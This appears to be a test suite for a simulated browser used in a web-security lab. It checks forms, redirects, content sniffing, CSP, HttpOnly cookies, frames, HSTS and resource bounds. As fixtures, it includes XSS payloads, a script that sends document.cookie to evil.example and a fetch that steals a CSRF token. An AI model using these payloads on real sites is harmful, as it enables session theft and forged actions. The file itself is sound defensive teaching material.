"""What a visit does: pages, forms, frames, scripts, and the log that tells of it."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterable
from typing import Any
from urllib.parse import parse_qs

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labs.browser import Browser, Clock, Headers, Internet, Page, Response, Script, static_site
from labs.browser.network import WsgiApp
from labs.browser.pages import MAX_HOPS
from labs.browser.tabs import MAX_REQUESTS, MAX_SCRIPTS, MAX_TABS

KVITTRA = "https://kvittra.example"
EVIL = "https://evil.example"


def internet(
    kvittra: dict[str, Any] | WsgiApp | str, evil: dict[str, Any] | str | None = None
) -> Internet:
    found = Internet()
    for origin, pages in ((KVITTRA, kvittra), (EVIL, evil)):
        if isinstance(pages, str):
            pages = {"/": pages}
        found.add(origin, static_site(pages or {}) if isinstance(pages, dict | None) else pages)
    return found


def visit(markup: str, **pages: Any) -> Page:
    return Browser(internet({"/": markup, **pages})).open(f"{KVITTRA}/").page


def fired(page: Page) -> list[str]:
    return [canary.id for canary in page.canaries]


class Echo:
    """An application that remembers what it was sent."""

    def __init__(self, markup: str = "", headers: Iterable[tuple[str, str]] = ()) -> None:
        self.markup, self.headers = markup, list(headers)
        self.seen: list[dict[str, str]] = []

    def __call__(
        self, environ: dict[str, Any], start_response: Callable[..., Any]
    ) -> Iterable[bytes]:
        body = environ["wsgi.input"].read().decode()
        self.seen.append({key: str(value) for key, value in environ.items()} | {"body": body})
        start_response("200 OK", [("Content-Type", "text/html"), *self.headers])
        return [self.markup.encode()]


# The user's hands.


def test_a_form_sends_what_is_filled_in_and_what_was_there() -> None:
    app = Echo(
        "<form method=post action=/save><input name=a value=1><input name=b><textarea name=c>x"
        "</textarea><select name=d><option value=1>one<option value=2>two</select>"
        "<input type=checkbox name=e><input type=checkbox name=f checked>"
        "<input name=g disabled><button name=go value=now>Save</button><button name=no>No</button>"
        "</form>"
    )
    tab = Browser(internet(app)).open(f"{KVITTRA}/")
    tab.submit("form", {"b": "å & ö", "d": "2"}, button="Save")
    assert parse_qs(app.seen[-1]["body"], keep_blank_values=True) == {
        "a": ["1"], "b": ["å & ö"], "c": ["x"], "d": ["2"], "f": ["on"], "go": ["now"],
    }  # fmt: skip
    assert app.seen[-1]["PATH_INFO"] == "/save"
    assert app.seen[-1]["HTTP_SEC_FETCH_USER"] == "?1"


@pytest.mark.parametrize(
    ("enctype", "expected"),
    [
        ("application/x-www-form-urlencoded", "a=1+2&b=%0D%0A"),
        ("text/plain", "a=1 2\r\nb=\r\n\r\n"),
    ],
)
def test_forms_are_encoded_as_they_ask(enctype: str, expected: str) -> None:
    app = Echo(
        f'<form method=post enctype="{enctype}"><input name=a value="1 2">'
        "<textarea name=b>\n\n</textarea></form>"
    )
    Browser(internet(app)).open(f"{KVITTRA}/").submit()
    assert app.seen[-1]["body"] == expected
    assert app.seen[-1]["CONTENT_TYPE"] == enctype


def test_a_form_field_that_is_not_there_is_an_error_that_names_it() -> None:
    tab = Browser(internet("<form><input name=a></form>")).open(f"{KVITTRA}/")
    with pytest.raises(LookupError, match="'b'"):
        tab.submit("form", {"b": "1"})
    with pytest.raises(LookupError, match="nothing on"):
        tab.click("No such button")
    with pytest.raises(TypeError, match="'a'"):
        tab.submit("form", {"a": 1})  # type: ignore[dict-item]


def test_a_link_is_found_by_its_text_and_opens_where_it_says() -> None:
    browser = Browser(
        internet({"/": "<a href=in>Go <b>in</b></a><a href=/x target=_blank>New</a>", "/in": "in"})
    )
    tab = browser.open(f"{KVITTRA}/")
    assert tab.click("Go in").text == "in"
    tab.open(f"{KVITTRA}/")
    tab.click("New")
    assert len(browser.tabs) == 2
    assert str(browser.tabs[1].url) == f"{KVITTRA}/x"


def test_a_handler_that_returns_false_keeps_the_click_from_doing_anything() -> None:
    browser = Browser(internet({"/": "<a href=/x onclick='return false'>Go</a>"}))
    assert browser.open(f"{KVITTRA}/").click("Go").url.path == "/"


# Redirects, errors, types.


def redirect(status: int, to: str) -> Response:
    return Response(status, Headers((("Location", to),)))


def test_redirects_are_followed_to_a_bound() -> None:
    browser = Browser(
        internet({"/": redirect(302, "/a"), "/a": "there", "/b": redirect(302, "/b")})
    )
    assert browser.open(f"{KVITTRA}/").page.text == "there"
    assert browser.open(f"{KVITTRA}/b").page.error == "too many redirects"


@pytest.mark.parametrize(
    "to", ["javascript:canary('x')", "data:text/html,<script>canary('x')</script>"]
)
def test_no_redirect_leads_to_code(to: str) -> None:
    browser = Browser(internet({"/": redirect(302, to)}))
    assert browser.open(f"{KVITTRA}/").page.status == 0
    assert not browser.canaries


def test_a_post_becomes_a_get_by_302_and_stays_by_307() -> None:
    app = Echo()
    pages = {"/": "<form method=post><input name=a></form>"}

    def kvittra(environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
        if environ["REQUEST_METHOD"] == "POST" and environ["PATH_INFO"].startswith("/30"):
            start_response(environ["PATH_INFO"][1:] + " Moved", [("Location", "/end")])
            return [b""]
        if environ["PATH_INFO"] == "/end":
            return app(environ, start_response)
        return static_site({"/302": pages["/"], "/307": pages["/"]})(environ, start_response)

    for path, method in (("/302", "GET"), ("/307", "POST")):
        Browser(internet(kvittra)).open(KVITTRA + path).submit()
        assert app.seen[-1]["REQUEST_METHOD"] == method


def test_a_page_that_goes_on_and_on_is_stopped() -> None:
    browser = Browser(internet("<script>location='/?' + location.search.length</script>"))
    browser.open(f"{KVITTRA}/")
    assert len(browser.internet.exchanges) <= MAX_HOPS + 2
    assert browser.log.only("navigate")
    assert "by itself" in list(browser.log)[-1].reason


@pytest.mark.parametrize(
    ("kind", "more", "runs"),
    [
        ("text/html", (), True),
        ("text/plain", (), False),
        ("application/json", (), False),
        ("image/svg+xml", (), True),
        ("image/png", (), False),
        ("", (), True),
        ("", (("X-Content-Type-Options", "nosniff"),), False),
        ("text/html", (("Content-Disposition", "attachment"),), False),
        ("text/html", (("Content-Security-Policy", "sandbox"),), False),
    ],
)
def test_an_upload_runs_only_as_a_page(
    kind: str, more: tuple[tuple[str, str], ...], runs: bool
) -> None:
    headers = ((("Content-Type", kind),) if kind else ()) + more
    upload = Response(200, Headers(headers), b"<svg onload=canary('x')></svg>")
    if not kind:
        upload = Response(200, Headers(headers), b"<script>canary('x')</script>")
    assert fired(visit("", **{"/": upload})) == (["x"] if runs else [])


def test_a_nonce_that_swallowed_markup_has_stolen_does_not_count() -> None:
    def page(markup: str) -> list[str]:
        policy = ("Content-Security-Policy", "script-src 'nonce-abc'")
        answer = Response(200, Headers((policy, ("Content-Type", "text/html"))), markup.encode())
        return fired(visit("", **{"/": answer, "/x.js": b"canary('x')"}))

    assert page("<script src=/x.js nonce=abc></script>") == ["x"]
    assert page("<script src=/x.js <script nonce=abc></script>") == []


def test_a_script_file_needs_a_script_type_where_sniffing_is_off() -> None:
    def page(kind: str, *more: tuple[str, str]) -> list[str]:
        file = Response(200, Headers((("Content-Type", kind), *more)), b"canary('x')")
        return fired(visit("<script src=/f></script>", **{"/f": file}))

    nosniff = ("X-Content-Type-Options", "nosniff")
    assert page("text/plain") == ["x"]
    assert page("text/plain", nosniff) == []
    assert page("text/javascript", nosniff) == ["x"]
    assert page("image/png") == []


# Authority.


def test_a_script_reads_no_http_only_cookie_and_sends_what_it_reads() -> None:
    headers = [("Set-Cookie", "session=7; Secure; HttpOnly"), ("Set-Cookie", "theme=dark; Secure")]
    code = f"new Image().src='{EVIL}/?c=' + encodeURIComponent(document.cookie)"
    evil = Echo()
    found = internet(Echo(f"<script>{code}</script>", headers))
    found.add(EVIL, evil)
    browser = Browser(found)
    browser.open(f"{KVITTRA}/")
    assert evil.seen[0]["QUERY_STRING"] == "c=theme%3Ddark"
    entry = next(
        e for e in browser.log.only("cookie", subject="session") if e.decision == "not readable"
    )
    assert "HttpOnly" in entry.reason


def test_a_lab_function_acts_with_the_authority_of_the_page() -> None:
    app = Echo("<p id=name>Maja</p><script id=s>spread('a', 1, {b: [true]})</script>")
    found = internet(app)
    calls: list[Any] = []

    def spread(script: Script, *arguments: Any) -> str:
        calls.append((script.origin, script.markup, arguments))
        element = script.find("#name")
        assert element is not None
        answer = script.fetch("/save", method="POST", fields={"who": element.text})
        assert answer.readable
        script.set_inner_html("#name", "<img src=x onerror=canary('y')>")
        script.storage["seen"] = "1"
        return "done"

    found.bind("spread", spread)
    browser = Browser(found)
    page = browser.open(f"{KVITTRA}/").page
    markup = "<script id=\"s\">spread('a', 1, {b: [true]})</script>"
    assert calls == [(KVITTRA, markup, ("a", 1.0, {"b": [True]}))]
    assert any(seen["body"] == "who=Maja" for seen in app.seen)
    assert fired(page) == ["y"]
    assert browser.storage_of(page.origin) == {"seen": "1"}


def test_a_whole_script_can_stand_for_a_lab_function() -> None:
    found = internet("<script> anything at all! </script><p onclick='anything at all!'>x")
    ran: list[str] = []
    found.bind_script("anything at all!", lambda script: ran.append(script.code.strip()))
    Browser(found).open(f"{KVITTRA}/").click("p")
    assert ran == ["anything at all!"] * 2


def test_a_lab_function_takes_any_arguments_an_attacker_gives_it() -> None:
    found = internet("<script>steal(); steal(1, 2, 3)</script>")
    got: list[Any] = []
    found.bind("steal", lambda _script, what: got.append(what))
    Browser(found).open(f"{KVITTRA}/")
    assert got == [None, 1.0]


def test_a_page_may_not_read_a_frame_of_another_origin() -> None:
    found = internet("secret", f"<iframe src={KVITTRA}/></iframe><script>look()</script>")
    seen: list[str] = []

    def look(script: Script) -> None:
        with pytest.raises(PermissionError, match="may not read"):
            script.frame(0)
        seen.append(script.page.frame(0).text)

    found.bind("look", look)
    Browser(found).open(f"{EVIL}/")
    assert seen == ["secret"]


def test_a_sandboxed_page_has_nobodys_authority() -> None:
    page = visit(
        "<iframe sandbox=allow-scripts "
        "srcdoc=\"<script>canary('x');canary(document.cookie)</script>\"></iframe>"
    )
    assert fired(page) == []
    assert {canary.origin for canary in page.browser.canaries} == {"null"}


def test_a_javascript_address_acts_on_the_page_it_is_clicked_on() -> None:
    page = visit("<a href=\"javascript:canary('x')\">x</a>")
    assert fired(page) == []
    page.click("a")
    assert fired(page) == ["x"]


def test_nobody_types_javascript_into_the_address_bar() -> None:
    browser = Browser(internet("x"))
    browser.open(f"{KVITTRA}/").open("javascript:canary('x')")
    assert not browser.canaries


def test_a_dom_based_script_is_followed_from_the_fragment_to_the_page() -> None:
    code = "document.getElementById('o').innerHTML = decodeURIComponent(location.hash.slice(1))"
    found = internet(f"<p id=o></p><script>{code}</script>")
    browser = Browser(found)
    page = browser.open(f"{KVITTRA}/#<img src=x onerror=canary('x')>").page
    assert fired(page) == ["x"]
    assert all("onerror" not in str(e.request.url) for e in found.exchanges)


def test_fetch_reads_its_own_site_and_posts_what_it_read() -> None:
    app = Echo("<input name=token value=s3cret>")
    code = (
        "fetch('/form').then(r => r.text()).then(t => {"
        "var token = t.split('value=')[1].split('>')[0];"
        "fetch('/bank', {method: 'POST', body: new URLSearchParams({token: token})})})"
    )
    found = internet(app)
    found.add("https://kvittra.example:8443", static_site({}))
    app.markup += f"<script>{code}</script>"
    Browser(found).open(f"{KVITTRA}/")
    assert any(seen["body"] == "token=s3cret" for seen in app.seen)


def test_a_page_asks_for_https_only_and_is_obeyed_until_it_ends() -> None:
    clock = Clock()
    found = Internet()
    header = {"Strict-Transport-Security": "max-age=100; includeSubDomains"}
    found.add(KVITTRA, static_site({"/": "secure"}, headers=header))
    found.add("http://kvittra.example", static_site({"/": "plain"}))
    browser = Browser(found, clock=clock)
    assert browser.open("http://kvittra.example/").page.text == "plain"
    browser.open(f"{KVITTRA}/")
    assert browser.open("http://kvittra.example/").page.text == "secure"
    clock.advance(101)
    assert browser.open("http://kvittra.example/").page.text == "plain"


def test_a_refused_frame_shows_nothing_and_says_why() -> None:
    headers = Headers((("X-Frame-Options", "DENY"), ("Content-Type", "text/html")))
    framed = Response(200, headers, b"in")
    browser = Browser(internet({"/": framed}, f"<iframe src={KVITTRA}/></iframe>"))
    page = browser.open(f"{EVIL}/").page
    assert page.frame(0).text == ""
    assert page.frames[0].blocked is not None
    (entry,) = browser.log.only("frame")
    assert (entry.decision, entry.reason) == ("not framed", "X-Frame-Options: DENY")


def test_clicking_a_framed_page_is_clicking_it() -> None:
    app = Echo("<form method=post action=/delete><button>Delete</button></form>")
    found = internet(app, f"<iframe src={KVITTRA}/></iframe>")
    Browser(found).open(f"{EVIL}/").page.frame(0).click("Delete")
    assert app.seen[-1]["PATH_INFO"] == "/delete"
    assert app.seen[-1]["HTTP_SEC_FETCH_SITE"] == "same-origin"


# Bounds.


def test_one_action_causes_a_bounded_number_of_requests() -> None:
    page = visit("<img src=x>" * (MAX_REQUESTS + 100))
    assert len(page.browser.internet.exchanges) <= MAX_REQUESTS
    assert any("requests" in entry.reason for entry in page.browser.log)


def test_one_action_runs_a_bounded_number_of_scripts() -> None:
    page = visit("<script>canary('x')</script>" * (MAX_SCRIPTS + 100))
    assert len(fired(page)) == MAX_SCRIPTS


def test_a_page_that_frames_itself_comes_to_an_end() -> None:
    page = visit("<iframe src=/></iframe>")
    depth = 0
    while page.frames:
        page, depth = page.frames[0].page, depth + 1
    assert depth <= 7


def test_tabs_are_bounded() -> None:
    browser = Browser(internet("<a href=/ target=_blank>x</a>"))
    tab = browser.open(f"{KVITTRA}/")
    for _ in range(MAX_TABS - 1):
        tab.click("x")
    with pytest.raises(ValueError, match="tabs"):
        browser.open(f"{KVITTRA}/")


@pytest.mark.parametrize(
    "markup",
    [
        "<b>" * 60_000,
        "<div>" * 50_000,
        "<p>x" * 60_000,
        "<p " + " ".join(f"a{n}" for n in range(30_000)) + ">",
        "".join(f"<b a={n}><p>" for n in range(10_000)),
        "<a><b>" * 20_000,
        "<table>" * 20_000,
        "<svg>" * 20_000 + "</p>" * 20_000,
        "<b>" * 10_000 + "</i>" * 20_000,
        "<script>" + "x=1;" * 60_000,
        "<!--" * 60_000,
        "<a href='" * 20_000,
        "x" * 3_000_000,
    ],
    ids=lambda markup: markup[:12],
)
def test_markup_that_is_built_to_be_slow_is_read_in_time(markup: str) -> None:
    started = time.process_time()
    assert visit(markup).status == 200
    assert time.process_time() - started < 5


@settings(max_examples=60)
@given(st.text(max_size=120), st.sampled_from(["text/html", "image/svg+xml", ""]))
def test_no_page_breaks_the_browser(markup: str, kind: str) -> None:
    response = Response(200, Headers((("Content-Type", kind),)), markup.encode("utf-8", "replace"))
    page = visit("", **{"/": response})
    assert page.html
    assert page.browser.log.html()


@settings(max_examples=60)
@given(
    st.lists(
        st.sampled_from(
            ["<script>", "</script>", "canary('x')", "<img src=x onerror=", "'", '"', ">", "<svg",
             "<iframe srcdoc=", "javascript:", "<a href=", "<form", "<template>", "<base href=//a>",
             "<meta http-equiv=refresh content='0;url=", "<!--", "-->", "document.write(", ")"]
        ),
        max_size=12,
    )
)  # fmt: skip
def test_no_pile_of_attack_pieces_breaks_the_browser(pieces: list[str]) -> None:
    page = visit("".join(pieces))
    for element in page.find_all("a"):
        page.click(element)
    assert page.browser.log.text()


# The log.


def test_the_log_shows_attackers_text_as_text() -> None:
    browser = Browser(internet(""))
    browser.log.add("<b>", "script", "<script>alert(1)</script>", "runs", '"&')
    shown = browser.log.html()
    assert "<script" not in shown
    assert "&lt;script&gt;" in shown
    assert shown.count("<th scope") == 6


def test_the_log_is_cut_by_kind_by_subject_and_by_time() -> None:
    page = visit("<img src=a><img src=b>")
    log = page.browser.log
    assert len(log.only("request", subject="/a")) == 1
    mark = log.mark
    page.browser.open(f"{KVITTRA}/")
    assert {entry.number > mark for entry in log.since(mark)} == {True}
    with pytest.raises(ValueError, match="kind"):
        log.only("weather")


def test_the_same_visit_writes_the_same_log() -> None:
    markup = "<img src=a><script>canary('x')</script><form></form>"
    assert visit(markup).browser.log.text() == visit(markup).browser.log.text()
